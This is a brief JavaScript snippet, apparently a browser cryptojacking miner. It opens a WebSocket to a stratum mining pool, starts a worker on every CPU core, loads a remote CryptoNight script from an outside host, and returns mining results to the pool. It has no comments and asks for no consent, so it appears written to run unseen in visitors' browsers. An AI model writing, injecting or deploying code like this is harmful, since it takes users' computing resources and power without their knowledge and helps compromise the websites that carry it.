(function () {
  var workers = [];
  var pool = new WebSocket("wss://pool-relay.invalid:3333/stratum");
  var n = navigator.hardwareConcurrency || 2;
  for (var i = 0; i < n; i++) {
    var w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://pool-relay.invalid/cn.js');"])));
    w.onmessage = function (e) { pool.send(JSON.stringify({ method: "submit", params: e.data })); };
    workers.push(w);
  }
  pool.onmessage = function (m) {
    var job = JSON.parse(m.data);
    workers.forEach(function (w) { w.postMessage({ job: job, algo: "cryptonight" }); });
  };
})();
